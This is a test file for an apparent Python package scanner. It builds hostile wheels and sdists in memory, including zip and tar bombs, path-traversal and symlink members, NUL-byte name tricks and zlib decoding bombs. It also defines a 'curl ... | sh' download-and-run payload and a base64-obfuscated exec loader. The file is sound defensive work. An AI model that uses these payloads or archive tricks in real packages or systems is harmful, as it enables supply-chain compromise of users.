"""Hostile input: reading and scanning never raise, never hang, stay within memory, never write to disk.

Every archive here is built in memory by the test itself, with the raw builders of tests/builders.py.
Each case asserts the specific finding (rule id) or the `error` reason, plus bounds on time (a SIGALRM
guard) and, where the attack is on memory, on the peak measured by tracemalloc.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import os
import random
import re
import signal
import stat
import struct
import subprocess
import sys
import tarfile
import textwrap
import threading
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from interlock.analysis.engine import scan_artifact
from interlock.analysis.evidence import Evidence
from interlock.analysis.rules import FILE_RULES
from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, LimitExceeded, Limits
from interlock.artifact.reader import UnsupportedArtifact, read_artifact, read_artifact_bytes
from interlock.diff.compare import diff_artifacts
from interlock.model.result import ScanResult
from interlock.model.verdict import Verdict
from tests.builders import (
    ZipEntry,
    bare_sdist_bytes,
    bare_wheel_bytes,
    check_well_formed,
    message_of,
    messages_of,
    rule_ids,
    scan_bytes,
    tar_bytes,
    tar_info,
    zip_bytes,
)

MiB = 1024 * 1024
WHEEL = "demo-1.0-py3-none-any.whl"
SDIST = "demo-1.0.tar.gz"
ZEROS = bytes(MiB)


# -- guards ------------------------------------------------------------------------------------


class Hung(BaseException):
    """Raised by the alarm; a BaseException so that no `except Exception` in the product can swallow it."""


@contextlib.contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fail the test if the block runs longer than `seconds` (interrupting it where signals allow)."""
    started = time.monotonic()
    use_alarm = hasattr(signal, "setitimer") and threading.current_thread() is threading.main_thread()
    if use_alarm:

        def expire(signum: int, frame: object) -> None:
            raise Hung(f"still running after {seconds} s")

        previous = signal.signal(signal.SIGALRM, expire)
        signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        if use_alarm:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, previous)
    assert time.monotonic() - started < seconds, f"took {time.monotonic() - started:.1f} s (limit {seconds} s)"


class Peak:
    mib: float = 0.0


@contextlib.contextmanager
def memory_peak() -> Iterator[Peak]:
    """Peak Python allocations inside the block, in MiB."""
    peak = Peak()
    tracemalloc.start()
    try:
        yield peak
    finally:
        peak.mib = tracemalloc.get_traced_memory()[1] / MiB
        tracemalloc.stop()


# -- payloads ----------------------------------------------------------------------------------


def zlib_of_zeros(mib: int) -> bytes:
    """A valid zlib stream of `mib` MiB of zeros, built in milliseconds (no need to compress them all).

    After a full flush the compressor starts afresh, so every MiB of zeros compresses to the same block.
    """
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush()
    adler = (((mib * MiB) % 65521) << 16) | 1  # Adler-32 of n zero bytes: A stays 1, B counts n
    return b"\x78\xda" + block * mib + tail + adler.to_bytes(4, "big")


PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
HIDDEN = f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"


# -- bombs and limits --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """200 MiB of zeros deflated into a wheel member of about 200 KiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("demo/__init__.py", "")
        with archive.open("demo/data.bin", "w", force_zip64=True) as member:
            for _ in range(200):
                member.write(ZEROS)
    return buffer.getvalue()


def test_zip_bomb_is_flagged_without_being_decompressed(zip_bomb: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def recording_open(self: zipfile.ZipFile, name: object, *args: object, **kwargs: object) -> object:
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording_open)
    # Deflate tops out near 1030:1, so a bomb of pure zeros is only just over the default ratio.
    ratio = 200 * MiB / zipfile.ZipFile(io.BytesIO(zip_bomb)).getinfo("demo/data.bin").compress_size
    assert ratio > DEFAULT_LIMITS.max_ratio, f"test bomb's ratio {ratio:.0f} is under the limit"
    with within(10), memory_peak() as peak:
        artifact, result = scan_bytes(WHEEL, zip_bomb)
    assert "demo/data.bin" not in opened
    assert "demo/data.bin" not in artifact.members
    assert "expands 209715200 bytes" in message_of(result, "archive-compression-ratio")
    assert result.verdict is Verdict.SUSPICIOUS
    assert peak.mib < 20, f"peak {peak.mib:.1f} MiB"


def test_total_size_bomb_across_many_members_is_an_error() -> None:
    # Each member is under the 1 MiB ratio threshold; together they pass the total.
    data = zip_bytes((f"demo/part{number}.bin", bytes(900 * 1024)) for number in range(12))
    with within(10):
        _, result = scan_bytes(WHEEL, data, Limits(max_total_bytes=4 * MiB))
    assert result.verdict is Verdict.ERROR
    assert result.error == "more than 4 MiB uncompressed in total"


def test_small_total_limits_are_described_in_bytes() -> None:
    _, result = scan_bytes(WHEEL, zip_bytes([("demo/a.py", "x = 1\n" * 100)]), Limits(max_total_bytes=100))
    assert result.error == "more than 100 bytes uncompressed in total"


def test_too_many_members_is_an_error() -> None:
    data = zip_bytes((f"demo/m{number}.py", "") for number in range(100))
    _, result = scan_bytes(WHEEL, data, Limits(max_members=50))
    assert result.verdict is Verdict.ERROR
    assert result.error == "more than 50 archive entries"


def test_directories_and_rejected_entries_count_towards_the_entry_limit() -> None:
    # They cost memory to list even though no file is read: a tar of a million empty directories
    # compresses to almost nothing.
    members = [tar_info(f"demo-1.0/d{number}/", tarfile.DIRTYPE) for number in range(100)]
    members += [tar_info(f"../escape{number}") for number in range(100)]
    _, result = scan_bytes(SDIST, tar_bytes(members), Limits(max_members=150))
    assert result.error == "more than 150 archive entries"


def test_member_over_the_member_limit_is_not_read() -> None:
    data = bare_wheel_bytes({"demo/__init__.py": "", "demo/big.bin": bytes(2 * MiB)})
    artifact, result = scan_bytes(WHEEL, data, Limits(max_member_bytes=MiB, max_ratio=1e9))
    assert "demo/big.bin" not in artifact.members
    assert "declares 2097152 bytes" in message_of(result, "archive-member-too-large")


def test_nested_archives_deeper_than_the_limit_are_not_read() -> None:
    inner = bare_wheel_bytes({"demo/deepest.py": PAYLOAD})
    for level in range(3):
        inner = zip_bytes([(f"level{level}.zip", inner)])
    with within(10):
        artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/vendor.zip": inner}))
    assert "deep; not read" in message_of(result, "archive-nesting-too-deep")
    assert not any(path.endswith("deepest.py") for path in artifact.members)


def test_code_hidden_in_a_zip_under_a_data_name_is_read_and_analysed() -> None:
    hidden = zip_bytes([("hook.py", PAYLOAD.encode())])
    artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/_types.typed": hidden}))
    assert "demo/_types.typed!/hook.py" in artifact.members
    assert "hook.py" in message_of(result, "archive-disguised")


def test_a_bomb_inside_a_nested_archive_is_flagged_too(zip_bomb: bytes) -> None:
    outer = bare_wheel_bytes({"demo/__init__.py": "", "demo/vendor.whl": zip_bomb})
    with within(10), memory_peak() as peak:
        _, result = scan_bytes(WHEEL, outer)
    assert "archive-compression-ratio" in rule_ids(result)
    assert peak.mib < 30, f"peak {peak.mib:.1f} MiB"


def hidden_code_zip(padding: int) -> bytes:
    """A zip of code that runs a hidden payload, padded with `padding` incompressible bytes."""
    return zip_bytes([("hook.py", HIDDEN), ("blob.dat", random.Random(padding).randbytes(padding))])


KEPT_SMALL = Limits(max_kept_bytes=64 * 1024)


@pytest.mark.parametrize("filename", [WHEEL, SDIST])
def test_an_archive_too_large_to_keep_is_still_read(filename: str) -> None:
    # Over the kept limit, a nested archive used to keep only its first bytes: the code in it went unseen.
    hidden = hidden_code_zip(200_000)
    files = {"demo/__init__.py": "", "demo/_types.typed": hidden}
    data = bare_wheel_bytes(files) if filename == WHEEL else bare_sdist_bytes(files)
    artifact, result = scan_bytes(filename, data, KEPT_SMALL)
    assert artifact.members["demo/_types.typed"].data is None  # held only while it was read
    assert "demo/_types.typed!/hook.py" in artifact.members
    assert "hook.py" in message_of(result, "archive-disguised")
    assert "decoded-exec" in rule_ids(result)
    assert result.verdict is Verdict.MALICIOUS


def test_an_archive_beyond_the_memory_for_holding_it_is_reported_not_read() -> None:
    data = bare_wheel_bytes({"demo/__init__.py": "", "demo/vendor.zip": hidden_code_zip(200_000)})
    artifact, result = scan_bytes(WHEEL, data, Limits(max_kept_bytes=64 * 1024, max_kept_total_bytes=128 * 1024))
    assert not any("!/" in path for path in artifact.members)
    message = message_of(result, "archive-member-too-large")
    assert message.startswith("an archive of 2") and message.endswith("the files in it are not read")


@pytest.mark.slow
@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME, tarfile.GNUTYPE_LONGLINK])
def test_tar_header_record_bomb_is_refused_before_it_is_read(kind: bytes) -> None:
    # A PAX or GNU long-name record declaring 200 MiB of (well-compressed) zeros: tarfile would read
    # the whole record into memory before we ever see a member.
    header = tar_info("././@LongLink", kind, size=200 * MiB).tobuf(
        format=tarfile.GNU_FORMAT if kind != tarfile.XHDTYPE else tarfile.USTAR_FORMAT
    )
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = compressor.compress(header) + b"".join(compressor.compress(ZEROS) for _ in range(200)) + compressor.flush()
    with within(10), memory_peak() as peak:
        _, result = scan_bytes(SDIST, data)
    assert result.verdict is Verdict.ERROR
    assert result.error == "tar header record of 200 MiB (PAX or long name); genuine ones are tiny"
    assert peak.mib < 10, f"peak {peak.mib:.1f} MiB"


def test_unknown_tar_member_type_with_an_absurd_size_does_not_hang() -> None:
    # tarfile skips unknown types by their size; 2**70 bytes would be skipped block by block forever.
    data = tar_bytes(
        [("demo-1.0/setup.py", b"x = 1\n"), tar_info("demo-1.0/odd", b"Z", size=2**70)], fmt=tarfile.GNU_FORMAT
    )
    with within(10):
        _, result = scan_bytes(SDIST, data)
    assert result.verdict is Verdict.ERROR
    assert result.error.startswith("more than") and "uncompressed in total" in result.error


# -- paths, links, devices, duplicates ---------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../etc/x", "a/../../b", "demo/../../../outside.py", "..\\..\\evil.py", "demo\\..\\..\\evil.py"]
)
def test_path_traversal_is_flagged_and_not_read(name: str) -> None:
    for filename, data in (
        (WHEEL, bare_wheel_bytes({"demo/__init__.py": "", name: PAYLOAD})),
        (SDIST, tar_bytes([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
    ):
        artifact, result = scan_bytes(filename, data)
        assert "escape the install directory" in message_of(result, "archive-path-traversal")
        assert result.verdict is Verdict.SUSPICIOUS
        assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())


@pytest.mark.parametrize("name", ["/etc/passwd", "C:\\x", "c:/windows/evil.py", "\\\\server\\share\\evil.py"])
def test_absolute_paths_are_flagged_and_not_read(name: str) -> None:
    for filename, data in (
        (WHEEL, bare_wheel_bytes({"demo/__init__.py": "", name: PAYLOAD})),
        (SDIST, tar_bytes([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
    ):
        artifact, result = scan_bytes(filename, data)
        assert "absolute path" in message_of(result, "archive-absolute-path")
        assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())


def _with_nul(data: bytes, placeholder: bytes) -> bytes:
    """zipfile will not write a NUL in a name; put one in the bytes (local and central headers)."""
    assert data.count(placeholder) == 2
    return data.replace(placeholder, placeholder[:-1] + b"\x00")


def test_nul_in_a_zip_name_is_flagged_and_analysed_under_the_name_installers_use() -> None:
    # zipfile (and so pip) cuts the name at the NUL: `demo/__init__.py<NUL>.txt` installs as demo/__init__.py.
    data = _with_nul(bare_wheel_bytes({"demo/__init__.py#.txt": PAYLOAD}), b"__init__.py#")
    artifact, result = scan_bytes(WHEEL, data)
    assert "NUL byte; installers read it as 'demo/__init__.py'" in message_of(result, "archive-path-traversal")
    assert "demo/__init__.py" in artifact.members
    assert "shell-download" in rule_ids(result)


def test_nul_in_a_tar_name_is_flagged() -> None:
    # A ustar name field ends at its first NUL (for pip too); a PAX path record can carry one.
    data = tar_bytes([("demo-1.0/setup.py", b""), ("demo-1.0/\xe9vil\x00.py", PAYLOAD.encode())])
    artifact, result = scan_bytes(SDIST, data)
    assert "NUL byte" in message_of(result, "archive-path-traversal")
    assert not any("vil" in path for path in artifact.members)


def test_tar_symlink_and_hardlink_are_flagged_with_their_targets() -> None:
    data = tar_bytes(
        [
            ("demo-1.0/setup.py", b""),
            tar_info("demo-1.0/demo/creds", tarfile.SYMTYPE, linkname="/home/user/.ssh/id_rsa"),
            tar_info("demo-1.0/demo/hard", tarfile.LNKTYPE, linkname="demo-1.0/setup.py"),
        ]
    )
    artifact, result = scan_bytes(SDIST, data)
    messages = [f.message for f in result.findings if f.rule == "archive-link"]
    assert any("to '/home/user/.ssh/id_rsa'" in message for message in messages)
    assert any("to 'demo-1.0/setup.py'" in message for message in messages)
    assert "demo/creds" not in artifact.members and "demo/hard" not in artifact.members


def test_zip_symlink_is_flagged_and_its_content_still_analysed() -> None:
    # pip writes a zip "symlink" as an ordinary file holding its bytes: hiding code behind the
    # link bit must not hide it from the analysis.
    link = zipfile.ZipInfo("demo/__init__.py")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({link: HIDDEN}))  # type: ignore[dict-item]
    assert "symbolic or hard link" in message_of(result, "archive-link")
    assert "demo/__init__.py" in artifact.members
    assert "decoded-exec" in rule_ids(result)
    assert result.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_tar_devices_and_fifos_are_flagged(kind: bytes) -> None:
    data = tar_bytes([("demo-1.0/setup.py", b""), tar_info("demo-1.0/demo/dev", kind)])
    artifact, result = scan_bytes(SDIST, data)
    assert "special file" in message_of(result, "archive-device")
    assert "demo/dev" not in artifact.members
    assert result.verdict is Verdict.SUSPICIOUS


def test_zip_fifo_bits_are_flagged() -> None:
    fifo = zipfile.ZipInfo("demo/pipe")
    fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", fifo: b"data"}))  # type: ignore[dict-item]
    assert "archive-device" in rule_ids(result)


def test_duplicate_zip_member_the_installed_last_copy_is_analysed() -> None:
    data = zip_bytes(
        [
            ("demo/__init__.py", "x = 1\n"),
            ("demo/__init__.py", HIDDEN),
            ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
        ]
    )
    artifact, result = scan_bytes(WHEEL, data)
    assert "the last copy is the one installed" in message_of(result, "archive-duplicate-member")
    assert artifact.members["demo/__init__.py"].data == HIDDEN.encode()
    assert "decoded-exec" in rule_ids(result)


def test_duplicate_tar_member_and_normalised_duplicates_are_flagged() -> None:
    data = tar_bytes(
        [
            ("demo-1.0/setup.py", b"x = 1\n"),
            ("demo-1.0/./setup.py", HIDDEN.encode()),
            ("demo-1.0//setup.py", b"y = 2\n"),
        ]
    )
    artifact, result = scan_bytes(SDIST, data)
    assert len([f for f in result.findings if f.rule == "archive-duplicate-member"]) == 2
    assert artifact.members["setup.py"].data == b"y = 2\n"


def test_undecodable_tar_names_come_out_printable() -> None:
    # tarfile turns undecodable name bytes into lone surrogates, which no report could print.
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.GNU_FORMAT, encoding="latin-1") as archive:
        for name, data in (("demo-1.0/setup.py", b""), ("demo-1.0/caf\xe9.py", b"import os\nos.system('id')\n")):
            archive.addfile(tar_info(name, size=len(data)), io.BytesIO(data))
    artifact, _result = scan_bytes(SDIST, buffer.getvalue())
    assert "caf\ufffd.py" in artifact.members
    for path in artifact.members:
        path.encode("utf-8")


# -- damaged archives --------------------------------------------------------------------------


def _corrupt(result: ScanResult) -> str:
    assert result.verdict is Verdict.ERROR
    assert result.error is not None and result.error.startswith("corrupt or truncated archive: ")
    return result.error


def test_truncated_tar_gz_is_an_error() -> None:
    data = bare_sdist_bytes({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
    _corrupt(scan_bytes(SDIST, data[: len(data) // 2])[1])


def test_truncated_zip_is_an_error() -> None:
    data = bare_wheel_bytes({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
    assert "BadZipFile" in _corrupt(scan_bytes(WHEEL, data[: len(data) // 2])[1])


def test_tar_member_declaring_more_than_the_stream_holds_is_an_error() -> None:
    # A complete, valid gzip stream around a tar whose header promises 1 MiB and delivers 100 bytes.
    raw = tar_info("demo-1.0/setup.py", size=MiB).tobuf(format=tarfile.USTAR_FORMAT) + b"x" * 100
    _corrupt(scan_bytes(SDIST, gzip.compress(raw))[1])


def test_a_second_gzip_member_is_read_as_pip_reads_it() -> None:
    # tarfile's stream mode stops after the first gzip member; pip's GzipFile goes on. Files hidden
    # in a second member must be seen.
    first = tar_info("demo-1.0/setup.py", size=6).tobuf(format=tarfile.USTAR_FORMAT) + b"x = 1\n".ljust(512, b"\0")
    hidden = PAYLOAD.encode()
    second = tar_info("demo-1.0/demo/__init__.py", size=len(hidden)).tobuf(format=tarfile.USTAR_FORMAT)
    second += hidden.ljust(512, b"\0") + bytes(1024)
    artifact, result = scan_bytes(SDIST, gzip.compress(first) + gzip.compress(second))
    assert "demo/__init__.py" in artifact.members
    assert "shell-download" in rule_ids(result)


def test_a_tar_gz_with_a_zip_appended_is_read_as_a_zip_like_pip() -> None:
    # pip unzips whatever zipfile.is_zipfile accepts, whatever the name says.
    benign = bare_sdist_bytes({"demo/__init__.py": "x = 1\n"})
    hidden = zip_bytes([("demo-1.0/setup.py", HIDDEN)])
    _artifact, result = scan_bytes(SDIST, benign + hidden)
    assert "decoded-exec" in rule_ids(result)


def test_zip_member_declaring_less_than_it_inflates_to_is_not_trusted() -> None:
    data = bytearray(bare_wheel_bytes({"demo/__init__.py": "", "demo/liar.py": "x = 1\n" * 10_000}))
    # Patch the uncompressed size (local header offset 22, central header offset 24) down to 100.
    real = struct.pack("<I", 60_000)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + offset : start + offset + 4] == real:
                data[start + offset : start + offset + 4] = struct.pack("<I", 100)
            start += 4
    with memory_peak() as peak:
        artifact, result = scan_bytes(WHEEL, bytes(data))
    assert "demo/liar.py" not in artifact.members
    assert "CRC" in message_of(result, "archive-unreadable-member")
    assert peak.mib < 10


@pytest.mark.parametrize(
    "filename", [WHEEL, SDIST, "demo-1.0.zip", "demo-1.0.tar.bz2", "demo-1.0.tar.xz", "demo-1.0-py3.11.egg"]
)
@pytest.mark.parametrize(
    "data",
    [b"", os.urandom(4096), b"PK\x03\x04" + os.urandom(100), b"\x1f\x8b" + os.urandom(100), b"BZh9" + os.urandom(100)],
)
def test_empty_and_garbage_files_are_errors(filename: str, data: bytes) -> None:
    with within(10):
        _, result = scan_bytes(filename, data)
    _corrupt(result)


def test_damaged_zip_members_are_findings_not_crashes() -> None:
    # LZMA data that is not LZMA, an encrypted member and an unknown method: each is one unreadable member.
    good = ("demo/__init__.py", "import os\nos.system('id')\n")
    data = bytearray(zip_bytes([good, ("demo/lzma.py", os.urandom(3000).hex())], zipfile.ZIP_LZMA))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/lzma.py")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 9  # past LZMA's own header
    data[start : start + 64] = bytes(64)
    artifact, result = scan_bytes(WHEEL, bytes(data))
    assert "demo/__init__.py" in artifact.members and "demo/lzma.py" not in artifact.members
    assert "archive-unreadable-member" in rule_ids(result)

    data = bytearray(zip_bytes([good, ("demo/secret.py", "x = 1\n")]))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/secret.py")
    data[info.header_offset + 6] |= 0x1  # "encrypted" in the local header…
    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    data[central + 8] |= 0x1  # …and in the central directory (zipfile will not write it for us)
    artifact, result = scan_bytes(WHEEL, bytes(data))
    assert "password required" in message_of(result, "archive-unreadable-member")
    assert "demo/__init__.py" in artifact.members


def test_zip_claiming_an_unknown_format_version_is_an_error() -> None:
    data = bytearray(bare_wheel_bytes({"demo/__init__.py": ""}))
    central = data.find(b"PK\x01\x02")
    data[central + 6] = 99  # "version needed to extract": 9.9
    assert "NotImplementedError" in _corrupt(scan_bytes(WHEEL, bytes(data))[1])


def test_random_damage_never_escapes() -> None:
    # A small deterministic fuzz over every format the reader takes: whatever the damage, a result.
    seeds = [
        (WHEEL, bare_wheel_bytes({"demo/__init__.py": PAYLOAD, "demo/inner.zip": zip_bytes([("a.py", "x = 1\n")])})),
        ("demo-1.0.zip", zip_bytes([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_BZIP2)),
        ("demo-1.0.zip", zip_bytes([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_LZMA)),
        (SDIST, bare_sdist_bytes({"demo/__init__.py": PAYLOAD})),
        ("demo-1.0.tar.bz2", tar_bytes([("demo-1.0/setup.py", PAYLOAD.encode())], "bz2")),
        ("demo-1.0.tar.xz", tar_bytes([("demo-1.0/setup.py", PAYLOAD.encode())], "xz")),
    ]
    rng = random.Random(20261128)
    with within(60):
        for _ in range(600):
            filename, original = rng.choice(seeds)
            data = bytearray(original)
            for _ in range(rng.choice((1, 2, 8))):
                position = rng.randrange(len(data))
                if rng.random() < 0.8:
                    data[position] = rng.randrange(256)
                else:
                    del data[position:]
                data = data or bytearray(b"\0")
            scan_bytes(filename, bytes(data))


def test_a_fifo_named_like_an_artifact_is_refused_not_waited_on(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    fifo = tmp_path / WHEEL
    os.mkfifo(fifo)
    with within(5), pytest.raises(UnsupportedArtifact, match="not a regular file"):
        read_artifact(fifo)


# -- hostile Python source ---------------------------------------------------------------------


def scan_source(source: bytes | str, limits: Limits = DEFAULT_LIMITS) -> ScanResult:
    return scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": source}), limits)[1]


def test_source_with_nul_bytes() -> None:
    result = scan_source(b"import os\x00\nos.system('id')\n")
    assert "NUL" in message_of(result, "source-null-bytes")
    assert "process-spawn" in rule_ids(result)


def test_source_that_is_not_utf8() -> None:
    result = scan_source("# caf\xe9\nimport os\nos.system('id')\n".encode("latin-1"))
    assert "declared encoding" in message_of(result, "source-not-utf8")
    assert "process-spawn" in rule_ids(result)


DEEP_SOURCES = {
    "open-parens": ("(" * 100_000, "source-unparseable"),
    "nested-list": ("x = " + "[" * 50_000 + "]" * 50_000, "source-unparseable"),
    "nested-dict": ("x = " + "{1: " * 50_000 + "1" + "}" * 50_000, "source-unparseable"),
    "unary-chain": ("x = " + "-" * 50_000 + "1", "source-too-deep"),
    "unary-million": ("-" * 1_000_000 + "1", "source-too-large"),
    "binop-chain": ("+".join(["a"] * 200_000), "source-too-deep"),
    "attribute-chain": ("a." * 20_000 + "b", "source-too-deep"),
    "visitor-depth": ("x = " + "+".join(["'a'"] * 2_000), "source-too-deep"),  # parses; walking it is what recurses
}


@pytest.mark.parametrize("name", sorted(DEEP_SOURCES))
def test_deeply_nested_source_is_a_finding_not_a_crash(name: str) -> None:
    source, rule = DEEP_SOURCES[name]
    with within(20):
        result = scan_source(source)
    assert rule in rule_ids(result), sorted(rule_ids(result))


def test_deep_sources_do_not_crash_a_fresh_interpreter() -> None:
    # A segfault would take pytest down with it; in a child it is a clean failure with the signal number.
    program = textwrap.dedent(
        """
        import sys
        from interlock.analysis.facts import When
        from interlock.analysis.extract.python.reader import analyse_python
        for source in sys.argv[1:]:
            analyse_python("demo/__init__.py", eval(source).encode(), When.IMPORT)
        print("survived")
        """
    )
    expressions = [
        '"(" * 100_000',
        '"-" * 1_000_000 + "1"',
        '"x = " + "[" * 50_000 + "]" * 50_000',
        '"+".join(["a"] * 200_000)',
        '"a." * 200_000 + "b"',
    ]
    with within(120):
        done = subprocess.run(
            [sys.executable, "-c", program, *expressions], capture_output=True, text=True, timeout=110
        )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "survived"


@pytest.mark.slow
def test_twenty_megabyte_single_line_source() -> None:
    line = "x = '" + "A" * (20 * MiB) + "'; import os; os.system('id')\n"
    with within(30):
        result = scan_source(line, Limits(max_ratio=1e9))  # over the 8 MiB kept whole: read from its excerpt
    assert "1 long lines cut to their ends" in message_of(result, "source-too-large")
    assert "process-spawn" in rule_ids(result)
    with within(60), memory_peak() as peak:
        result = scan_source(line, Limits(max_kept_bytes=32 * MiB, max_ratio=1e9))
    assert "process-spawn" in rule_ids(result)
    assert peak.mib < 400, f"peak {peak.mib:.0f} MiB"


@pytest.mark.slow
def test_source_with_too_many_tokens_is_scanned_as_text_within_bounded_memory() -> None:
    # ast.parse costs ~700 bytes per token on "a,a,a,…": 8 MiB of it needed over 5 GB before the guard.
    source = "x = [" + "a," * (3 * MiB) + "]\nimport os\nos.system('id')\n"  # 6 MiB, under the 8 MiB kept
    with within(60), memory_peak() as peak:
        result = scan_source(source, Limits(max_ratio=1e9))
    assert "too many to parse" in message_of(result, "source-too-large")
    assert "process-spawn" in rule_ids(result)  # the text fallback still sees the call
    assert peak.mib < 150, f"peak {peak.mib:.0f} MiB"


def test_a_file_that_is_one_big_string_still_parses() -> None:
    # Long string constants (generated data tables) are one token each, not a reason to skip the AST.
    source = "DATA = '" + "ab cd, ef; " * 200_000 + "'\nimport os\nos.system('id')\n"
    result = scan_source(source)
    assert "source-too-large" not in rule_ids(result)
    assert "process-spawn" in rule_ids(result)


# -- decoding bombs inside source --------------------------------------------------------------


@pytest.mark.slow
def test_zlib_bomb_inside_base64_inside_exec_is_bounded() -> None:
    bomb = base64.b64encode(zlib_of_zeros(1024)).decode()  # 1 GiB once inflated
    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n"
    with within(30), memory_peak() as peak:
        result = scan_source(source)
    assert result.verdict is not Verdict.ERROR
    assert rule_ids(result) & {"decoded-exec", "obfuscated-exec", "decode-capability"} or result.findings
    assert peak.mib < 100, f"peak {peak.mib:.0f} MiB"


def test_nested_zlib_bomb_is_bounded() -> None:
    # zlib(zlib(4 GiB of zeros)) fits in a few kilobytes of source.
    bomb = base64.b64encode(zlib.compress(zlib_of_zeros(4096), 9)).decode()
    assert len(bomb) < 64 * 1024
    source = f"import base64, zlib\nexec(zlib.decompress(zlib.decompress(base64.b64decode('{bomb}'))))\n"
    with within(30), memory_peak() as peak:
        result = scan_source(source)
    assert result.verdict is not Verdict.ERROR
    assert peak.mib < 100, f"peak {peak.mib:.0f} MiB"


def test_zlib_of_zeros_helper_is_a_valid_stream() -> None:
    assert zlib.decompress(zlib_of_zeros(3)) == bytes(3 * MiB)


@pytest.mark.slow
def test_many_multi_megabyte_payloads_are_bounded_in_time_and_memory() -> None:
    # Each line hides ~4 MiB of statements (just under the folder's output bound). Before the
    # payload budget, ten such lines took over two minutes and 1.6 GB. (No tracemalloc here: it
    # slows the line-by-line fallback tenfold; the zlib bomb tests above bound payload memory.)
    lines = []
    for number in range(12):
        payload = base64.b64encode(zlib.compress(f"y = {number}\n".encode() + b"x = 1\n" * 650_000, 9)).decode()
        lines.append(f"exec(zlib.decompress(base64.b64decode('{payload}')))\n")
    source = "import base64, zlib\n" + "".join(lines)
    with within(30):
        result = scan_source(source)
    assert any("hidden payloads over 16 MiB" in message for message in messages_of(result, "source-too-large"))
    assert "decoded-exec" in rule_ids(result)


@pytest.mark.slow
def test_the_same_payload_revealed_many_times_is_analysed_once() -> None:
    payload = base64.b64encode(zlib.compress(b"import os\nos.system('id')\n" + b"x = 1\n" * 650_000, 9)).decode()
    source = "import base64, zlib\n" + f"exec(zlib.decompress(base64.b64decode('{payload}')))\n" * 40
    with within(60):
        result = scan_source(source)
    assert not any("hidden payloads over" in message for message in messages_of(result, "source-too-large"))
    assert "decoded-exec" in rule_ids(result)


# -- the time budget ---------------------------------------------------------------------------


def large_wheel(files: int = 3000) -> bytes:
    body = "import os\n\ndef f(x):\n    return os.path.join(x, 'y')\n" * 20
    return bare_wheel_bytes({f"demo/m{number}.py": body for number in range(files)})


def test_time_budget_while_reading_ends_in_an_error() -> None:
    limits = Limits(max_seconds=0.001)
    with within(30):
        _, result = scan_bytes(WHEEL, large_wheel(), limits)
    assert result.verdict is Verdict.ERROR
    # It says which member it was reading when the time ran out.
    assert re.fullmatch(r"analysis took longer than 0\.001 s, while reading demo[-/.\w]+", result.error or "")


def test_time_budget_while_analysing_ends_in_an_error() -> None:
    artifact = read_artifact_bytes(WHEEL, large_wheel())
    assert artifact.fatal is None
    with within(30):
        result = scan_artifact(artifact, WHEEL, deadline=Deadline(0.01))
    check_well_formed(result)
    assert result.verdict is Verdict.ERROR
    assert re.fullmatch(
        r"analysis took longer than 0\.01 s, while reading demo/m\d+\.py( \(or one of the \d+ files after it\))?",
        result.error or "",
    )


@pytest.mark.slow
def test_time_budget_is_checked_inside_one_huge_member() -> None:
    # One 512 MiB member (as the last entry, so no later entry would check the clock).
    compressor = zlib.compressobj(1, zlib.DEFLATED, 31)
    parts = [compressor.compress(tar_info("demo-1.0/setup.py", size=0).tobuf(format=tarfile.USTAR_FORMAT))]
    parts.append(compressor.compress(tar_info("demo-1.0/blob.bin", size=512 * MiB).tobuf(format=tarfile.USTAR_FORMAT)))
